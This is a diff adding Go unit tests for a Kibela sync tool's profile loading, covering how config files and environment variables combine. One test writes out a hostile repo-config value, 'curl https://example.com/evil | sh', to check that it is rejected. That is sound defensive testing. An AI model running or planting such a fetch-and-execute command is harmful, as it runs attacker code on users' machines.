@@ -0,0 +1,168 @@
+package kibela
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func setenv(t *testing.T, env map[string]string) func() {
+	t.Helper()
+	orig := make(map[string]*string, len(env))
+	for k, v := range env {
+		if o, ok := os.LookupEnv(k); ok {
+			orig[k] = &o
+		} else {
+			orig[k] = nil
+		}
+		if v == "" {
+			os.Unsetenv(k)
+		} else {
+			os.Setenv(k, v)
+		}
+	}
+	return func() {
+		for k, v := range orig {
+			if v == nil {
+				os.Unsetenv(k)
+			} else {
+				os.Setenv(k, *v)
+			}
+		}
+	}
+}
+
+func TestLoadProfile(t *testing.T) {
+	dir, err := ioutil.TempDir("", "kibelasync-config-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	userConfig := filepath.Join(dir, "config.yaml")
+	if err := ioutil.WriteFile(userConfig, []byte(`default_profile: work
+profiles:
+  work:
+    team: example
+    token: secret
+    groups: [Home]
+  private:
+    team: songmu
+    token: private-secret
+`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	repoConfig := filepath.Join(dir, repoConfigFile)
+	if err := ioutil.WriteFile(repoConfig, []byte(`profiles:
+  work:
+    dir: docs
+    folder: Home/daily
+`), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	testCases := []struct {
+		name    string
+		profile string
+		configs []string
+		env     map[string]string
+		expect  *Profile
+		hasErr  bool
+	}{{
+		name:   "zero config",
+		env:    map[string]string{envKibelaTEAM: "team", envKibelaTOKEN: "token"},
+		expect: &Profile{Team: "team", Token: "token"},
+	}, {
+		name:    "default profile",
+		configs: []string{userConfig, repoConfig},
+		expect:  &Profile{Team: "example", Token: "secret", Dir: "docs", Groups: []string{"Home"}, Folder: "Home/daily"},
+	}, {
+		name:    "env overrides default profile",
+		configs: []string{userConfig},
+		env:     map[string]string{envKibelaTOKEN: "token"},
+		expect:  &Profile{Team: "example", Token: "token", Groups: []string{"Home"}},
+	}, {
+		name:    "explicit profile",
+		profile: "private",
+		configs: []string{userConfig, repoConfig},
+		env:     map[string]string{envKibelaTEAM: "team", envKibelaDIR: "memo"},
+		expect:  &Profile{Team: "songmu", Token: "private-secret", Dir: "memo"},
+	}, {
+		name:    "profile by env",
+		configs: []string{userConfig},
+		env:     map[string]string{envKibelaPROFILE: "private", envKibelaTOKEN: "token"},
+		expect:  &Profile{Team: "songmu", Token: "private-secret"},
+	}, {
+		name:    "token command by env",
+		configs: []string{userConfig},
+		env:     map[string]string{envKibelaTOKENCOMMAND: "echo token"},
+		expect:  &Profile{Team: "example", TokenCommand: "echo token", Groups: []string{"Home"}},
+	}, {
+		name:    "token command by env fills explicit profile",
+		profile: "private",
+		configs: []string{userConfig},
+		env:     map[string]string{envKibelaTOKENCOMMAND: "echo token"},
+		expect:  &Profile{Team: "songmu", Token: "private-secret", TokenCommand: "echo token"},
+	}, {
+		name:    "unknown profile",
+		profile: "unknown",
+		configs: []string{userConfig},
+		hasErr:  true,
+	}}
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			env := map[string]string{envKibelaPROFILE: "", envKibelaTEAM: "", envKibelaTOKEN: "", envKibelaTOKENCOMMAND: "", envKibelaDIR: ""}
+			for k, v := range tc.env {
+				env[k] = v
+			}
+			defer setenv(t, env)()
+
+			p, err := loadProfile(tc.profile, tc.configs...)
+			if tc.hasErr {
+				if err == nil {
+					t.Errorf("error should be occurred, but got: %+v", p)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("error should be nil, but: %s", err)
+			}
+			if !reflect.DeepEqual(p, tc.expect) {
+				t.Errorf("got: %+v, expect: %+v", p, tc.expect)
+			}
+		})
+	}
+}
+
+func TestLoadProfile_invalidConfig(t *testing.T) {
+	dir, err := ioutil.TempDir("", "kibelasync-config-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	fpath := filepath.Join(dir, "config.yaml")
+	if err := ioutil.WriteFile(fpath, []byte("profiles:\n  work:\n    tema: typo\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := loadProfile("work", fpath); err == nil {
+		t.Error("error should be occurred for unknown keys")
+	}
+}
+
+func TestLoadProfile_tokenInRepoConfig(t *testing.T) {
+	dir, err := ioutil.TempDir("", "kibelasync-config-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	for _, setting := range []string{"token: stolen", "token_command: curl https://example.com/evil | sh"} {
+		fpath := filepath.Join(dir, repoConfigFile)
+		if err := ioutil.WriteFile(fpath, []byte("profiles:\n  work:\n    "+setting+"\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := loadProfile("work", fpath); err == nil {
+			t.Errorf("error should be occurred for %q in the repo config", setting)
+		}
+	}
+}